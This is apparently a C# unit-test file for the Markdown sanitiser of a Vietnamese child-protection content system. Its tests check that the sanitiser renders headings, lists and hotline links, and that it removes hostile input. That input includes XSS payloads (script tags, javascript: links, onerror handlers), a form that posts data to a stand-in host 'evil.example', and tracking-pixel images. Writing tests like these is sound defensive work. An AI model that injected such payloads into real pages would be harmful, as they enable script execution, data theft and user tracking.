using ChildProtection.Cms.Text;
using Microsoft.Extensions.Options;

namespace ChildProtection.Cms.Tests.Text;

public sealed class MarkdownRendererTests
{
    private readonly MarkdownRenderer _renderer = new(new PictureSources(Options.Create(new ContentOptions())));

    [Fact]
    public void ToHtml_MarkdownWithHeadingListAndPhoneLink_RendersThem()
    {
        var html = _renderer.ToHtml("## Khi nào cần gọi\n\n- Gọi [111](tel:111)\n- Gọi 113");

        Assert.Contains("<h2", html);
        Assert.Contains("Khi nào cần gọi", html);
        Assert.Contains("<li>", html);
        Assert.Contains("href=\"tel:111\"", html);
    }

    [Fact]
    public void ToHtml_ScriptAndJavascriptLinks_AreRemoved()
    {
        var html = _renderer.ToHtml("Xin chào <script>alert(1)</script> [bấm](javascript:alert(1)) <img src=x onerror=alert(1)>");

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Xin chào", html);
    }

    [Fact]
    public void ToHtml_FormWithActionAndControls_Dropped()
    {
        var html = _renderer.ToHtml("""
            Đăng ký nhận tin:

            <form action="https://evil.example/thu" method="post"><input name="email"><textarea name="t"></textarea><select name="s"><option>1</option></select><button formaction="https://evil.example/b">Gửi</button></form>

            Gọi 111.
            """);

        foreach (var gone in new[] { "<form", "action", "<input", "<button", "<textarea", "<select", "<option", "evil.example" })
        {
            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("Đăng ký nhận tin:", html);
        Assert.Contains("Gọi 111.", html);
    }

    [Fact]
    public void ToHtml_PicturesFromOutside_OnlyMediaLibraryAndAllowedHostsKept()
    {
        const string Markdown = """
            ![Sơ đồ](/media/0b4f/so-do.png) ![Theo dõi](https://tracker.example/p.png) ![Ảnh bạn](https://anh.example.vn/a.png)

            <img src="http://tracker.example/raw.gif" alt="Pixel"> <img srcset="https://tracker.example/s.png 2x" alt="Bộ ảnh"> <p style="background-image: url(https://tracker.example/bg.png)">nền</p>

            [Trang của Bộ](https://tracker.example/tin-tuc)
            """;
        var allowing = new MarkdownRenderer(new PictureSources(Options.Create(new ContentOptions { AllowedImageHosts = ["ANH.example.vn"] })));

        var html = _renderer.ToHtml(Markdown);
        var allowed = allowing.ToHtml(Markdown);

        Assert.Contains("""<img src="/media/0b4f/so-do.png" alt="Sơ đồ">""", html);
        Assert.Equal(1, html.Split("tracker.example").Length - 1);
        Assert.Contains("""<a href="https://tracker.example/tin-tuc">Trang của Bộ</a>""", html);
        Assert.DoesNotContain("anh.example.vn", html);
        Assert.Contains("Theo dõi", html);
        Assert.Contains("Pixel", html);
        Assert.Contains("""<img src="https://anh.example.vn/a.png" alt="Ảnh bạn">""", allowed);
    }

    [Fact]
    public void ToPlainText_Markdown_DropsMarkup() =>
        Assert.Equal("Gọi 111 ngay.", _renderer.ToPlainText("Gọi **111** ngay."));

    [Fact]
    public void ToTextBlocks_HeadingsListsAndEmphasis_PlainBlocksWithMarkers()
    {
        var blocks = _renderer.ToTextBlocks("## Khi nào cần gọi\n\nHãy **bình tĩnh** và [gọi 111](tel:111).\n\n- Trẻ bị bạo lực\n- Trẻ bị xâm hại\n  1. Ghi lại\n\n> Trích dẫn\n\n<div>bỏ qua</div>");

        Assert.Equal(
            [
                new TextBlock(TextBlockKind.Heading, "Khi nào cần gọi", 0, 2),
                new TextBlock(TextBlockKind.Paragraph, "Hãy bình tĩnh và gọi 111."),
                new TextBlock(TextBlockKind.ListItem, "Trẻ bị bạo lực", 1, Marker: "•"),
                new TextBlock(TextBlockKind.ListItem, "Trẻ bị xâm hại", 1, Marker: "•"),
                new TextBlock(TextBlockKind.ListItem, "Ghi lại", 2, Marker: "1."),
                new TextBlock(TextBlockKind.Quote, "Trích dẫn"),
            ],
            blocks);
    }
}
